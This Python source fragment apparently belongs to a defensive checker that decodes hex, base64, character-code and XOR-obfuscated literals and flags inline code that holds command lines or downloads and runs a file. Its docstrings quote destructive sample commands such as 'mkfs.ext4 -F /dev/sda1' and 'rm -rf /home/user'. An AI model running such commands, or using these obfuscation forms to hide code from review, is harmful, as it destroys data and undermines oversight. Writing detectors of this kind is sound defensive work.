# A list of byte values (`{0x28, 0x37, …}`, `[40, 55, …]`) and a key XORed into bytes (`c ^ 0x5A`, `b ^= 42`).
_BYTE_ARRAY = re.compile(r"[\[{]\s*((?:(?:0[xX][0-9a-fA-F]{1,2}|\d{1,3})\s*,\s*){5,}(?:0[xX][0-9a-fA-F]{1,2}|\d{1,3}))\s*,?\s*[\]}]")
_XOR_KEY = re.compile(r"\^=?\s*(0[xX][0-9a-fA-F]{1,2}\b|\d{1,3}\b)")


def _decoded_literals(code: str) -> list[str]:
    """The texts that hex or base64 literals in the code decode to, lists of character codes it turns into text, and
    byte lists XORed with a key the code names (judged as commands: code that decodes a command line is about to run
    it)."""
    texts = ["".join(chr(int(n)) for n in re.findall(r"\d+", m.group(1)) if int(n) < 0x110000)
             for m in _CHARACTER_CODES.finditer(code)]
    if _decodes_hex(code):  # hex text the code decodes a pair of digits at a time
        texts += [bytes.fromhex(m.group(2)).decode("latin-1") for m in re.finditer(r"""(['"])((?:[0-9a-fA-F]{2}){8,})\1""", code)]
    if re.search(r"b64decode|FromBase64String|base64_decode|decode_base64|base64_dec|base64decode|\batob\(|decode64\(|"
                 r"\.unpack1?\(\s*['\"]m0?['\"]|"
                 r"Buffer\.from\([^)]*['\"]base64['\"]", code):
        texts += [_base64_text(m.group(2)) for m in re.finditer(r"""(['"])([A-Za-z0-9+/]{16,}={0,2})\1""", code)]
    for m in _ENCODED_LITERAL.finditer(code):
        encoded = re.sub(r"\s", "", m.group(3))
        try:
            raw = bytes.fromhex(encoded) if m.group(1) in ("fromhex", "unhexlify", "hex2bin") else base64.b64decode(encoded, validate=True)
            texts.append(raw.decode("utf-8"))
        except (ValueError, UnicodeDecodeError):
            continue
    if "^" in code and (keys := {int(k, 0) for k in _XOR_KEY.findall(code)} - {0}):  # byte arrays XOR-masked
        for m in _BYTE_ARRAY.finditer(code):
            values = [int(n, 0) for n in re.findall(r"0[xX][0-9a-fA-F]+|\d+", m.group(1))]
            texts += [t for key in keys if (t := bytes(v ^ key for v in values if v < 256).rstrip(b"\0").decode("latin-1"))
                      .isascii() and len(t) > 3]
    return [t for t in texts if t and t.isprintable()]


def _base64_text(encoded: str) -> str:
    try:
        return base64.b64decode(encoded, validate=True).decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return ""


def held_commands(code: str) -> tuple[list[ActionRisk], list[str]]:
    """Command lines that inline code holds as data (`['mkfs.ext4', '-F', '/dev/sda1']`, `'rm -rf /home/user'`): code
    that runs anything may hand them to a shell, so they are judged too; and a file the code downloads, then runs."""
    if not _runs_commands(code):
        return [], []
    commands = [" ".join(re.findall(r"['\"]([^'\"]*)['\"]", m.group(0))) for m in _COMMAND_LIST.finditer(code)]
    commands += [m.group(2) for m in _COMMAND_TEXT.finditer(code)]
    runs_file = any(re.match(r"(?:ba|z)?sh\s|python3?\s|chmod\s+\+?[0-7]*x", c)
                    for c in [*commands, *(m.group(2) for m in _SHELL_CALL.finditer(code))])
    if _FETCH.search(code) and runs_file:
        return [ActionRisk(DENY, "remote_code", "inline code downloads a file and runs it", "act.code.remote")], commands
    return [], commands
